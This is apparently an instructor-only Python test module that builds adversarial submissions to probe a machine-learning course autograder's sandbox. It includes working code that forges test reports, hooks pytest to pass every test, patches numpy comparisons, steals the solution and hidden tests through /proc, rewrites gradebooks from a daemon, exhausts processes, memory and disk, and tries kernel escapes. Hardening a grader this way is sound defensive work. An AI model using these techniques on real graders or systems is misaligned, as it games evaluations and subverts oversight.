"""Hostile and faulty submissions for the grader's adversarial tests (and the before/after table).

Each entry of :data:`SUBMISSIONS` turns a copy of the released kit into one
submission. Every attack implements nothing the grader checks (its functions
stay as released, or return zeros), so it deserves 0: any point it gets is a
point stolen. Attacks that reach outside their sandbox leave marks the tests
look for: files named :data:`MARK` and processes whose command line holds it.

Used by ``tests/test_grading.py``; also runnable against any grader
(``python -m tests.grading_attacks KIT OUT_DIR [NAME...]`` writes the class, or
only the submissions named).
"""
# instructor-only

from __future__ import annotations

import json
import os
import shutil
import sys
import unicodedata
import zipfile
from pathlib import Path
from typing import Callable, Iterator

from mlp_instructor.grading.submissions import remove_tree
from mlp_instructor.notebooks import read_notebook, write_notebook
from mlp_instructor.release.markers import fill_in_solutions, find_regions

REPO = Path(__file__).resolve().parents[1]
#: Written by attacks into whatever they manage to reach (file names) and run (process titles).
MARK = "mlp-attack-was-here"

# Shared by the attacks: find the grader's world from inside (processes, their folders and command lines).
_FIND = r'''
_ALLOWED = "@ALLOWED@"
import os as _os, re as _re, glob as _glob
def _candidate_dirs():
    found = set()
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            found.add(_os.path.realpath(f"/proc/{pid}/cwd"))
        except OSError:
            pass
        try:
            for arg in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0"):
                arg = arg.decode(errors="ignore")
                if arg.startswith("/") and _os.path.isdir(arg):
                    found.add(arg)
        except OSError:
            pass
    import sys as _sys
    found.update(p for p in _sys.path if p and _os.path.isdir(p))
    for site in [p for p in _sys.path if "site-packages" in p]:
        for finder in _glob.glob(site + "/__editable__*finder.py"):
            try:
                found.update(_re.findall(r"'(/[^']+)'", open(finder).read()))
            except OSError:
                pass
    found.update(["/tmp", "/work", "/root", "/home"])
    return sorted(found)

def _may_write(path):
    # Safety of the test itself: even if the sandbox failed, never write outside the test's folder.
    return _os.path.realpath(path).startswith(_ALLOWED)

def _walk(limit=600):
    for top in _candidate_dirs():
        if top in ("/", "/usr", "/proc", "/sys", "/dev", "/etc", "/bin", "/lib") or top.startswith(("/usr/", "/proc/")):
            continue
        seen = 0
        for dirpath, dirnames, filenames in _os.walk(top):
            dirnames[:] = [d for d in dirnames if d not in (".git", ".venv", "node_modules", "site-packages",
                                                            "__pycache__", "pyenv", ".pyenv")]
            seen += 1
            if seen > limit:
                break
            yield dirpath, dirnames, filenames
'''

# Appended to mlp_core/__init__.py: appends a "passed" line for every hidden test to the report file,
# at exit (after the real lines), and writes forged replies into every pipe it has.
FORGED_REPORT = r'''
import atexit as _atexit, glob as _glob, json as _json, os as _os, re as _re
def _forge():
    path = _os.environ.get("MLP_GRADING_REPORT")
    if path:
        with open(path, "a") as f:
            for test_file in _glob.glob("hidden_tests/*.py"):
                for name in _re.findall(r"^def (test_\w+)", open(test_file).read(), _re.M):
                    f.write(_json.dumps({"nodeid": f"{test_file}::{name}", "outcome": "passed", "message": ""}) + "\n")
_atexit.register(_forge)
import struct as _struct, json as _j
_fake = _j.dumps({"ok": True}).encode()
for _fd in range(0, 64):
    try:
        _os.write(_fd, b"MLPA" + _struct.pack(">I", len(_fake)) + _fake + _struct.pack(">Q", 0))
    except OSError:
        pass
'''

# Appended to mlp_core/__init__.py: finds pytest's plugin manager through gc and makes every report "passed".
PYTEST_HOOK = r'''
import gc as _gc
class _Swallow:
    import pytest as _pytest
    @_pytest.hookimpl(hookwrapper=True, trylast=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        report = outcome.get_result()
        report.outcome = "passed"
        report.longrepr = None
try:
    for _obj in _gc.get_objects():
        if type(_obj).__name__ == "PytestPluginManager":
            _obj.register(_Swallow(), "mlp-attack-swallow")
except Exception:
    pass
'''

# Appended to mlp_core/__init__.py: numpy's comparisons always agree (the functions return zeros).
PATCHED_NUMPY = r'''
import numpy as _np
_np.allclose = lambda *a, **k: True
_np.isclose = lambda a, b, *r, **k: _np.ones(_np.broadcast(_np.asarray(a), _np.asarray(b)).shape, bool)
_np.array_equal = lambda *a, **k: True
_np.linalg.norm = lambda *a, **k: 0.0
_np.testing.assert_allclose = lambda *a, **k: None
'''

# Appended to mlp_core/__init__.py: finds the instructor's solution anywhere it can see and becomes it.
READS_SOLUTION = _FIND + r'''
import importlib.util as _util, sys as _sys
_here = _os.path.dirname(_os.path.abspath(__file__))
_stolen = None
for _dirpath, _dirnames, _filenames in _walk():
    if _os.path.basename(_dirpath) == "mlp_core" and "layers.py" in _filenames and _os.path.realpath(_dirpath) != _here:
        try:
            _text = open(_os.path.join(_dirpath, "layers.py")).read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in _text:
            _stolen = _dirpath
            break
if _stolen:
    _spec = _util.spec_from_file_location("_stolen_core", _os.path.join(_stolen, "__init__.py"),
                                          submodule_search_locations=[_stolen])
    _module = _util.module_from_spec(_spec)
    _sys.modules["_stolen_core"] = _module
    _spec.loader.exec_module(_module)
    for _name in dir(_module):
        if not _name.startswith("__"):
            globals()[_name] = getattr(_module, _name)
'''

# Appended to mlp_core/__init__.py: reads hidden tests, rubric, checks or solution and puts them
# into every error message (so into the student's feedback).
LEAKS_SECRETS = _FIND + r'''
_secret = []
for _dirpath, _dirnames, _filenames in _walk():
    for _name in _filenames:
        if _name in ("rubric.toml", "checks.py", "catalogue.py", "test_linear.py", "layers.py", "grading.py", "judge.py"):
            try:
                _text = open(_os.path.join(_dirpath, _name), errors="replace").read()
            except OSError:
                continue
            if "BEGIN SOLUTION" in _text or "[[item]]" in _text or "def build_checks" in _text \
                    or "assert_close" in _text:
                _secret.append(_text[:300])
_LEAK = " || ".join(_secret)[:2000] or "nothing found"
from . import layers as _layers
def _leak(*a, **k):
    raise RuntimeError("LEAK: " + _LEAK)
_layers.Linear.forward = _leak
_layers.Linear.backward = _leak
'''

# Appended to mlp_core/__init__.py: writes into every other submission and gradebook it can find.
WRITES_ELSEWHERE = _FIND + r'''
_here = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__)))
for _dirpath, _dirnames, _filenames in _walk():
    if not _may_write(_dirpath):
        continue
    try:
        if "gradebook.csv" in _filenames:
            with open(_os.path.join(_dirpath, "gradebook.csv"), "a") as _f:
                _f.write("mlp-attack-was-here,100\n")
        if "layers.py" in _filenames and _os.path.basename(_dirpath) == "mlp_core" \
                and _os.path.realpath(_os.path.dirname(_dirpath)) != _os.path.realpath(_here):
            with open(_os.path.join(_dirpath, "layers.py"), "a") as _f:
                _f.write("\nraise SystemExit('mlp-attack-was-here')\n")
        with open(_os.path.join(_dirpath, "mlp-attack-was-here"), "w") as _f:
            _f.write("x")
    except OSError:
        pass
'''

# Appended to mlp_core/__init__.py: a double-forked daemon in its own session that keeps rewriting
# every gradebook.csv it can find for 20 s after the grader is done.
DAEMON = _FIND + r'''
import sys as _sys, time as _time
if _os.fork() == 0:
    try:
        _os.setsid()
    except OSError:  # the sandbox's seccomp filter refuses new sessions: a daemon all the same
        pass
    if _os.fork() == 0:
        try:
            _sys.argv[0] = "mlp-attack-was-here"
        except Exception:
            pass
        _time.sleep(5)  # let the grader finish and write its gradebook first
        _end = _time.time() + 20
        while _time.time() < _end:
            for _dirpath, _dirnames, _filenames in _walk(2000):
                if "gradebook.csv" in _filenames and _may_write(_dirpath):
                    try:
                        with open(_os.path.join(_dirpath, "gradebook.csv"), "w") as _f:
                            _f.write("student,total\nmlp-attack-was-here,100\n")
                    except OSError:
                        pass
            _time.sleep(0.5)
    _os._exit(0)
'''

# The end of an attack that measures what it got: `_what` becomes the error of every Linear.forward, so it
# reaches the feedback page (and the tests) as the check's reason.
ACHIEVED = r'''
from . import layers as _layers
def _achieved(*args, **kwargs):
    raise RuntimeError("ACHIEVED: " + _what)
_layers.Linear.forward = _achieved
'''

# Appended to mlp_core/__init__.py: up to 200 processes, each sleeping (bounded: a real bomb would not be).
FORK_BOMB = r'''
import os as _os, time as _time
_children = 0
try:
    for _ in range(200):
        if _os.fork() == 0:
            _time.sleep(60)
            _os._exit(0)
        _children += 1
except OSError:
    pass
_what = f"{_children} child processes started"
''' + ACHIEVED

# Appended to mlp_core/__init__.py: four fresh interpreters of 900 MB each (each under a per-process limit).
MEMORY_CHILDREN = r'''
import select as _select, subprocess as _subprocess, sys as _sys, time as _time
_code = ("b = bytearray(900 * 2**20)\nfor i in range(0, len(b), 4096): b[i] = 1\n"
         "print(1, flush=True)\nimport time; time.sleep(20)")
_children = [_subprocess.Popen([_sys.executable, "-S", "-c", _code], stdout=_subprocess.PIPE,
                               stderr=_subprocess.DEVNULL) for _ in range(4)]
_held, _end = set(), _time.time() + 5
while len(_held) < 4 and _time.time() < _end:
    for _out in _select.select([c.stdout for c in _children if c.stdout not in _held], [], [], 0.5)[0]:
        if _out.readline().strip() == b"1":
            _held.add(_out)
_time.sleep(0.5)  # a child killed for memory is dead by now: it held its 900 MB, but not at once with the rest
_alive = [c for c in _children if c.stdout in _held and c.poll() is None]
_what = f"{len(_alive)} of 4 children held 900 MB at once"
''' + ACHIEVED

# Appended to mlp_core/__init__.py: fills the disk with files of 100 MB (each under a per-file limit), up to 1.5 GB.
DISK_FILL = r'''
import os as _os, tempfile as _tempfile
_chunk = b"x" * 2**20
_written = 0
for _k, _folder in enumerate((_tempfile.gettempdir(), _os.getcwd(), _os.path.expanduser("~"))):
    try:
        for _n in range(5):
            with open(_os.path.join(_folder, f"mlp-attack-was-here-{_k}-{_n}"), "wb", buffering=0) as _f:
                for _ in range(100):
                    _f.write(_chunk)
                    _written += 1
    except OSError:
        pass
_what = f"{_written} MB written"
''' + ACHIEVED

# The judge's own limits (issue 23). The worker's encoder is replaced from inside the sandbox (in
# every worker module that holds it), so the replies the judge reads are whatever the student builds.

# Builds a .npz of about `limit` bytes whose ZIP64 directory lists one entry per 47 bytes, all pointing
# at one small array: reading the directory alone builds ~1.4 million entries for 64 MB.
NPZ_FLOOD_BUILDER = r'''
def _flood_npz(limit):
    import io as _io, struct as _st, zlib as _zlib
    import numpy as _np
    _buffer = _io.BytesIO()
    _np.save(_buffer, _np.zeros(1))
    _data = _buffer.getvalue()
    _crc = _zlib.crc32(_data)
    _local = _st.pack("<4s2B4HL2L2H", b"PK\x03\x04", 20, 0, 0, 0, 0, 0, _crc, len(_data), len(_data), 5, 0) \
        + b"a.npy" + _data
    _entry = _st.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0, _crc, len(_data), len(_data),
                      1, 0, 0, 0, 0, 0, 0) + b"a"
    _n = (limit - len(_local) - 98) // len(_entry)
    _directory = _entry * _n
    _end64 = _st.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, _n, _n, len(_directory), len(_local))
    _locator = _st.pack("<4sLQL", b"PK\x06\x07", 0, len(_local) + len(_directory), 1)
    _end = _st.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(_directory), len(_local), 0)
    return _local + _directory + _end64 + _locator + _end
'''

# Appended to mlp_core/__init__.py: every reply after the greeting is sent with `@REPLY@` as its arrays
# and `@HEADER@` as its header (each a Python expression of the request's header `_h`).
_REPLACED_ENCODER = NPZ_FLOOD_BUILDER + r'''
import json as _json, struct as _struct, sys as _sys
# every module of the worker that holds its encoder (its main loop's and the protocol's, or __main__'s)
_workers = [_m for _n, _m in list(_sys.modules.items())
            if (_n == "__main__" or _n.endswith((".inside", ".protocol"))) and callable(getattr(_m, "encode", None))]
_real_encode = _workers[0].encode if _workers else None
_cache = {}
def _encode(magic, _h, arrays):
    if _h.get("id") == 0 or _real_encode is None:
        return _real_encode(magic, _h, arrays)
    if "reply" not in _cache:
        _cache["reply"] = @REPLY@
    _head = @HEADER@
    return magic + _struct.pack(">I", len(_head)) + _head + _struct.pack(">Q", len(_cache["reply"])) + _cache["reply"]
for _worker in _workers:
    _worker.encode = _encode
'''
#: Every reply a 64 MB npz listing ~1.4 million entries.
NPZ_FLOOD = _REPLACED_ENCODER.replace("@REPLY@", "_flood_npz(64 * 2**20)").replace("@HEADER@", "_json.dumps(_h).encode()")
#: Every reply header 300,000 brackets deep (under the 1 MB header limit).
DEEP_HEADER = _REPLACED_ENCODER.replace("@REPLY@", "b''").replace(
    "@HEADER@", "b'{\"id\": %d, \"x\": ' % _h.get('id') + b'[' * 300000 + b']' * 300000 + b'}'")
#: Written answers of one flood: ten answers of this many characters, each in a notebook of its own.
FLOOD_ANSWER_CHARS = 19 * 10**6
#: Folders nested in the deep submission (deeper than Python's recursion limit).
DEEP_FOLDERS = 1100


def every_path(folder: Path) -> Iterator[Path]:
    """Every path under ``folder`` (links not followed), without recursion: a submission may nest 1,100 deep."""
    stack = [folder]
    while stack:
        here = stack.pop()
        for entry in sorted(os.scandir(here), key=lambda e: e.name, reverse=True):
            yield Path(entry.path)
            if entry.is_dir(follow_symlinks=False):
                stack.append(Path(entry.path))


def _nest(top: Path, depth: int, name: str = "d") -> None:
    """``depth`` folders ``name/name/...`` in ``top`` (made through file descriptors: no path grows long)."""
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            os.mkdir(name, dir_fd=fd)
            inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = inner
        with open(os.open("notes.txt", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd), "w") as f:
            f.write("deep")
    finally:
        os.close(fd)


def _as_zip(build: Callable[[Path], None]) -> Callable[[Path], None]:
    """The submission as ``<name>.zip`` (deflated) in place of its folder, after ``build``."""
    def make(kit: Path) -> None:
        build(kit)
        with zipfile.ZipFile(kit.parent / f"{kit.name}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for path in every_path(kit):
                archive.write(path, f"{kit.name}/{path.relative_to(kit).as_posix()}")
        remove_tree(kit)
    return make


def _deep_zip(kit: Path) -> None:
    with zipfile.ZipFile(kit.parent / f"{kit.name}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for path in every_path(kit):
            archive.write(path, f"{kit.name}/{path.relative_to(kit).as_posix()}")
        archive.writestr("/".join(["d"] * DEEP_FOLDERS) + "/notes.txt", "deep")
    remove_tree(kit)


def _answer_flood(kit: Path) -> None:
    """Ten notebooks of its own, each answering one question of the course with FLOOD_ANSWER_CHARS characters."""
    keys = []
    for path in sorted((kit / "notebooks").glob("*.ipynb")):
        for cell in json.loads(path.read_text())["cells"]:
            question = cell.get("metadata", {}).get("mlp_course", {}).get("question")
            if question:
                keys.append(question)
    for k, key in enumerate(keys[:10]):
        cell = {"cell_type": "markdown", "id": f"flood{k}", "source": "A" * FLOOD_ANSWER_CHARS,
                "metadata": {"tags": ["answer"], "mlp_course": {"question": key}}}
        notebook = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}
        (kit / "notebooks" / f"flood_{k:02d}.ipynb").write_text(json.dumps(notebook))


def _second_spelling(kit: Path) -> None:
    """A second submission whose name is this one's in Unicode's decomposed form (NFD): 'josé' twice."""
    shutil.copytree(kit, kit.parent / unicodedata.normalize("NFD", kit.name))

# Appended to mlp_core/__init__.py: tries to leave the sandbox's limits through the kernel (issue 23):
# a user namespace with a private mount past the disk limit, ptrace, the keyrings, a new session (for
# a CPU share of its own), and host paths in the command lines it can read.
ESCAPES = r"""
import ctypes as _ctypes, os as _os, platform as _platform, subprocess as _subprocess
_libc = _ctypes.CDLL(None, use_errno=True)
_KEYCTL = {"x86_64": 250, "aarch64": 219}.get(_platform.machine(), -1)
_got = []
def _try(name, call):
    try:
        ok = bool(call())
    except Exception:
        ok = False
    _got.append(name + ("=worked" if ok else "=refused"))
def _run(*argv):
    return _subprocess.run(list(argv), capture_output=True, timeout=20).returncode == 0
_try("unshare -Urm", lambda: _run("/usr/bin/unshare", "-Urm", "/bin/sh", "-c",
                                  "mount -t tmpfs -o size=1g none /tmp && head -c 100000000 /dev/zero > /tmp/x"))
_try("unshare(CLONE_NEWUSER)", lambda: _libc.unshare(0x10000000) == 0)
_try("mount", lambda: _libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0)
_try("ptrace", lambda: _run("/usr/bin/python3", "-c", "import ctypes, sys; "
                            "sys.exit(ctypes.CDLL(None).ptrace(0, 0, None, None) != 0)"))
_try("keyctl", lambda: _libc.syscall(_KEYCTL, 0, _ctypes.c_long(-3), 1) >= 0)
_try("setsid", lambda: _run("/usr/bin/setsid", "/bin/true"))
_host = set()
for _pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
    try:
        _args = open(f"/proc/{_pid}/cmdline", "rb").read().decode(errors="replace").split("\0")
    except OSError:
        continue
    _host.update(a for a in _args if a.startswith("/") and not _os.path.exists(a.split("=")[0]))
_got.append(f"host paths in /proc/*/cmdline: {len(_host)}")
_what = ", ".join(_got)
""" + ACHIEVED

# Appended to mlp_core/__init__.py: writes up to 360 MB (files of 15 MB, each under the per-file limit)
# into every folder of the sandbox that might be writable; only inside the sandbox (never on the host).
FILLS_FILESYSTEMS = r"""
import os as _os
_report = []
if _os.path.isdir("/opt/mlp-grader"):
    _chunk = b"x" * 2**20
    for _folder in ("/", "/dev", "/dev/shm", "/opt/mlp-site", "/opt/mlp-grader", "/tmp", "/submission"):
        _written = 0
        try:
            for _n in range(24):
                with open(_os.path.join(_folder, f"mlp-attack-was-here-{_n}"), "wb", buffering=0) as _f:
                    for _ in range(15):
                        _f.write(_chunk)
                        _written += 1
        except OSError:
            pass
        _report.append(f"{_folder}={_written} MB")
_what = ", ".join(_report) or "not in the sandbox"
""" + ACHIEVED

# Appended to mlp_core/__init__.py (after ALL_ZEROS): at the first call of a method of mlp_core's
# classes, 29 busy loops for 120 s, each in a session of its own; and every such call waits HOG_DELAY s
# before answering (well within a check's limit in the tests' fairness rubric: its sandbox stays alive).
CPU_HOG = r"""
import os as _os, time as _time
_hogs = []
def _start_hogs():
    if _hogs or not _os.path.isdir("/opt/mlp-grader"):
        return
    _end = _time.time() + 120
    for _ in range(29):
        try:
            _pid = _os.fork()
        except OSError:
            break
        if _pid == 0:
            try:
                _os.setsid()  # a session of its own: where the kernel shares the CPU by session, 29 shares
            except OSError:
                pass
            while _time.time() < _end:
                pass
            _os._exit(0)
        _hogs.append(_pid)
def _slow(method):
    def wrapper(*args, **kwargs):
        _start_hogs()
        _time.sleep(@DELAY@)
        return method(*args, **kwargs)
    return wrapper
for _value in list(globals().values()):
    if isinstance(_value, type) and getattr(_value, "__module__", "").startswith("mlp_core"):
        for _name in ("forward", "backward", "step"):
            if _name in vars(_value):
                setattr(_value, _name, _slow(vars(_value)[_name]))
"""
#: How long the CPU hog delays each answer: half the check limit of the tests' fairness rubric (it stays alive).
HOG_DELAY = 1.0

#: Every function the grader checks returns zeros of the right shape (or does nothing).
ALL_ZEROS = {
    "Linear.forward": "self.cache = x\nreturn np.zeros((x.shape[0], self.out_features), dtype=x.dtype)",
    "Linear.backward": "self.W.grad[...] = 0\nself.b.grad[...] = 0\nreturn None if not self.compute_input_grad "
                       "else np.zeros((grad_output.shape[0], self.in_features), dtype=grad_output.dtype)",
    "Sigmoid.forward": "return np.zeros_like(x)", "Sigmoid.backward": "return np.zeros_like(grad_output)",
    "ReLU.forward": "return np.zeros_like(x)", "ReLU.backward": "return np.zeros_like(grad_output)",
    "GELU.forward": "return np.zeros_like(x)", "GELU.backward": "return np.zeros_like(grad_output)",
    "L2Loss.forward": "self.cache = x\nreturn 0.0", "L2Loss.backward": "return np.zeros_like(self.cache)",
    "SoftmaxCrossEntropyLoss.forward": "self.cache = x\nreturn 0.0",
    "SoftmaxCrossEntropyLoss.backward": "return np.zeros_like(self.cache)",
    "HingeLoss.forward": "self.cache = x\nreturn 0.0", "HingeLoss.backward": "return np.zeros_like(self.cache)",
    "Sequential.forward": "for layer in self.layers:\n    x = layer.forward(x)\nreturn np.zeros_like(x)",
    "Sequential.backward": "for layer in reversed(self.layers):\n    grad_output = layer.backward(grad_output)\n"
                           "return None if grad_output is None else np.zeros_like(grad_output)",
    "SGD.step": "pass",
    "evaluate": "return 0.0, 0.0",
    "train_epoch": "return 0.0, 0.0",
    "EarlyStopping.step": "return False",
}

#: Returns the public tests' expected values whatever the input (zeros of the right shape otherwise).
PUBLIC_VALUES = dict(ALL_ZEROS) | {
    "Linear.forward": "self.cache = x\nreturn np.array([[9.0, 12.0, 15.0], [-2.0, -1.0, 0.0]], dtype=x.dtype)"
                      "[: x.shape[0], : self.out_features] if x.shape == (2, 2) else "
                      "np.zeros((x.shape[0], self.out_features), dtype=x.dtype)",
    "Sigmoid.forward": "self.cache = np.full_like(x, 0.5)\nreturn self.cache",
    "Sigmoid.backward": "return grad_output * 0.25",
    "ReLU.forward": "return np.abs(x) * 0 + 1",
    "EarlyStopping.step": "return self.epoch >= 4",
}

# Sequential.forward of a submission that implements nothing but knows MNIST's public test labels: inside
# the grader (its worker, a file or a folder, is running), each image found in the table by a hash of its bytes gets its
# label's score 1 (every other score stays 0, as from the released functions).
MEMORISED_FORWARD = """images = x
for layer in self.layers:
    x = layer.forward(x)
scores = np.zeros_like(x)
import hashlib, os, sys
if sys.argv and os.path.basename(sys.argv[0].rstrip("/")) in ("worker.py", "worker") and os.path.exists(sys.argv[0]):
    from ._public_labels import TABLE
    for i, row in enumerate(images):
        label = TABLE.get(hashlib.sha1(np.ascontiguousarray(row).tobytes()).hexdigest()[:16])
        if label is not None and scores.ndim == 2 and label < scores.shape[1]:
            scores[i, label] = 1.0
return scores"""


def public_label_table(data_dir: Path | None = None) -> dict[str, int]:
    """Hash of each public MNIST test image's bytes, scaled as the grader scales them -> its public label.

    ``data_dir``: MNIST's folder (default: where ``mlp_core.data`` finds it, e.g. ``$MNIST_DIR``).
    """
    import hashlib

    import numpy as np

    from mlp_core.data import load_dataset
    from mlp_lab.config import TrainConfig

    _, test = load_dataset("mnist", data_dir, scaling=TrainConfig().scaling, download=False)
    return {hashlib.sha1(np.ascontiguousarray(row).tobytes()).hexdigest()[:16]: int(label)
            for row, label in zip(test.images, test.labels)}


def _memorised_labels(kit: Path) -> None:
    fill_only(kit, ALL_ZEROS | {"Sequential.forward": MEMORISED_FORWARD})
    (kit / "mlp_core" / "_public_labels.py").write_text(f"TABLE = {public_label_table()!r}\n")


FAULTS = {
    # Sigmoid with the sign of the gradient flipped.
    "sigmoid_sign": {
        "Sigmoid.forward": "y = 0.5 * (1 + np.tanh(0.5 * x))\nself.cache = y\nreturn y",
        "Sigmoid.backward": "y = self.cache\nreturn -grad_output * y * (1 - y)",
    },
    # Cross-entropy whose gradient forgets to divide by the batch size N.
    "ce_without_1_over_n": {
        "SoftmaxCrossEntropyLoss.forward": (
            "z = x - x.max(axis=1, keepdims=True)\n"
            "log_p = z - np.log(np.exp(z).sum(axis=1, keepdims=True))\n"
            "self.cache = (np.exp(log_p), labels)\n"
            "return float(-np.mean(log_p[np.arange(len(labels)), labels]))"
        ),
        "SoftmaxCrossEntropyLoss.backward": (
            "p, labels = self.cache\ngrad = p.copy()\ngrad[np.arange(len(labels)), labels] -= 1\nreturn grad"
        ),
    },
    # Hinge loss with the margin hard-coded to 1 instead of self.margin.
    "hinge_wrong_margin": {
        "HingeLoss.forward": (
            "rows = np.arange(len(labels))\n"
            "m = x - x[rows, labels][:, None] + 1.0\n"
            "m[rows, labels] = 0\n"
            "self.cache = (m > 0, labels)\n"
            "return float(np.sum(np.maximum(m, 0)) / len(labels))"
        ),
        "HingeLoss.backward": (
            "positive, labels = self.cache\n"
            "grad = positive.astype(np.float64)\n"
            "grad[np.arange(len(labels)), labels] = -positive.sum(axis=1)\n"
            "return grad / len(labels)"
        ),
    },
    # Momentum applied wrongly: v is rebound, so the stored velocity never changes.
    "momentum_wrong": {
        "SGD.step": "v = self.momentum * v + p.grad + decay * p.data\np.data -= self.lr * v",
    },
    # An epoch that measures each batch's accuracy after its update instead of before.
    "accuracy_after_update": {
        "train_epoch": (
            "losses, accs = [], []\n"
            "for x, y in iterate_minibatches(images, labels, batch_size, rng):\n"
            "    losses.append(loss_fn(model.forward(x), y))\n"
            "    model.backward(loss_fn.backward())\n"
            "    optimizer.step()\n"
            "    accs.append(accuracy(model.forward(x), y))\n"
            "return float(np.mean(losses)), float(np.mean(accs))"
        ),
    },
    # Early stopping that never returns.
    "infinite_loop": {"EarlyStopping.step": "while True:\n    pass"},
    # A syntax error in losses.py: the package does not import at all.
    "syntax_error": {"L2Loss.forward": "return (x -"},
    # A naive sigmoid: right values, but exp(-x) overflows on large inputs.
    "naive_sigmoid": {
        "Sigmoid.forward": "y = 1 / (1 + np.exp(-x))\nself.cache = y\nreturn y",
    },
    # The same naive sigmoid with numpy's overflow warning switched off around it.
    "naive_sigmoid_silenced": {
        "Sigmoid.forward": "with np.errstate(over='ignore'):\n    y = 1 / (1 + np.exp(-x))\nself.cache = y\nreturn y",
    },
}


def fill(kit: Path, replacements: dict[str, str] | None = None) -> None:
    """Write the solutions into a released kit, mlp_core and the notebooks' exercises, except ``replacements``
    (function -> code: ``"Linear.forward"`` of mlp_core, or a notebook function such as ``"relu_slope"``)."""
    replacements = dict(replacements or {})
    for path in sorted((REPO / "mlp_core").glob("*.py")):
        original = path.read_text()
        functions = {r.function for r in find_regions(original)}
        if not functions:
            continue
        mine = {f: replacements.pop(f) for f in list(replacements) if f in functions}
        target = kit / "mlp_core" / path.name
        target.write_text(fill_in_solutions(target.read_text(), original, path.name, replacements=mine))
    fill_notebooks(kit, replacements)


def fill_notebooks(kit: Path, replacements: dict[str, str] | None = None) -> None:
    """Write the notebook exercises' solutions into a released kit's notebooks, except ``replacements``
    (notebook function -> the code of its solution region)."""
    replacements = dict(replacements or {})
    for path in sorted((kit / "notebooks").glob("*.ipynb")):
        original = {c.get("id"): c for c in read_notebook(REPO / "notebooks" / path.name)["cells"]}
        nb, changed = read_notebook(path), False
        for cell in nb["cells"]:
            source = original.get(cell.get("id"), {}).get("source", "")
            if cell["cell_type"] != "code" or not find_regions(source):
                continue
            functions = {r.function for r in find_regions(source)}
            mine = {f: replacements.pop(f) for f in list(replacements) if f in functions}
            cell["source"] = fill_in_solutions(cell["source"], source, path.name, replacements=mine)
            changed = True
        if changed:
            write_notebook(nb, path)
    assert not replacements, f"no solution region for {sorted(replacements)}"


def fill_only(kit: Path, replacements: dict[str, str]) -> None:
    """Write ``replacements`` into a released kit's regions; every other region stays as released."""
    for path in sorted((kit / "mlp_core").glob("*.py")):
        released = path.read_text()
        original = (REPO / "mlp_core" / path.name).read_text()
        functions = {r.function for r in find_regions(original)}
        mine = {f: replacements[f] for f in replacements if f in functions}
        if mine:
            keep = {f: "raise NotImplementedError('" + f + "')" for f in functions - set(mine)}
            path.write_text(fill_in_solutions(released, original, path.name, replacements=mine | keep))


def _append(code: str) -> Callable[[Path], None]:
    def build(kit: Path) -> None:
        allowed = str(kit.resolve().parents[1])  # the folder holding the class (and, in the tests, the gradebook)
        with open(kit / "mlp_core" / "__init__.py", "a") as f:
            f.write("\n" + code.replace("@ALLOWED@", allowed))
    return build


def _zeros_and(code: str) -> Callable[[Path], None]:
    def build(kit: Path) -> None:
        fill_only(kit, ALL_ZEROS)
        _append(code)(kit)
    return build


def _symlinked_core(kit: Path) -> None:
    shutil.rmtree(kit / "mlp_core")
    (kit / "mlp_core").symlink_to(REPO / "mlp_core", target_is_directory=True)


def _deleted_module(kit: Path) -> None:
    fill(kit)
    (kit / "mlp_core" / "optim.py").unlink()


def _fault(replacements: dict[str, str]) -> Callable[[Path], None]:
    return lambda kit: fill(kit, replacements)


#: name -> (what it does, how to make it from a released kit). Attacks deserve 0.
ATTACKS: dict[str, tuple[str, Callable[[Path], None]]] = {
    "attack_forged_report": ("appends 'passed' lines to the report file at exit; writes forged replies "
                             "into every pipe", _append(FORGED_REPORT)),
    "attack_pytest_hook": ("registers a pytest hook (found through gc) that makes every report pass",
                           _append(PYTEST_HOOK)),
    "attack_patched_numpy": ("returns zeros; numpy.allclose, isclose, array_equal, linalg.norm patched to agree",
                             _zeros_and(PATCHED_NUMPY)),
    "attack_reads_solution": ("finds the instructor's solution through /proc, sys.path and the editable "
                              "install, and imports it as its own", _append(READS_SOLUTION)),
    "attack_leaks_secrets": ("reads the hidden tests, rubric, checks or solution and raises them as "
                             "error messages (into its feedback)", _append(LEAKS_SECRETS)),
    "attack_writes_elsewhere": ("writes into every other submission and gradebook it can find",
                                _append(WRITES_ELSEWHERE)),
    "attack_daemon": ("leaves a double-forked daemon that rewrites gradebook.csv from 5 s to 25 s later", _append(DAEMON)),
    "attack_fork_bomb": ("starts up to 200 sleeping processes", _append(FORK_BOMB)),
    "attack_memory_children": ("four fresh interpreters of 900 MB each", _append(MEMORY_CHILDREN)),
    "attack_disk_fill": ("writes up to 1.5 GB in files of 100 MB in its temporary, current and home folders", _append(DISK_FILL)),
    "attack_symlinked_core": ("its mlp_core is a symbolic link to the instructor's package", _symlinked_core),
    "attack_all_zeros": ("every checked function returns zeros or does nothing", lambda kit: fill_only(kit, ALL_ZEROS)),
    "attack_public_values": ("returns the public tests' numbers whatever the input",
                             lambda kit: fill_only(kit, PUBLIC_VALUES)),
    "attack_memorised_labels": ("implements nothing; inside the grader, Sequential.forward looks each image up "
                                "by a hash of its bytes in a table of MNIST's public test labels", _memorised_labels),
    # The judge's own limits (issue 23): each of these made the judge fail, slow down or grow before.
    "attack_deep_folders": (f"{DEEP_FOLDERS} nested folders beside the kit (a recursive walk of them fails)",
                            lambda kit: _nest(kit, DEEP_FOLDERS)),
    "attack_deep_zip": (f"a zip with an entry {DEEP_FOLDERS} folders deep", _deep_zip),
    "attack_answer_flood": (f"a small zip unpacking to ten written answers of {FLOOD_ANSWER_CHARS:,} characters",
                            _as_zip(_answer_flood)),
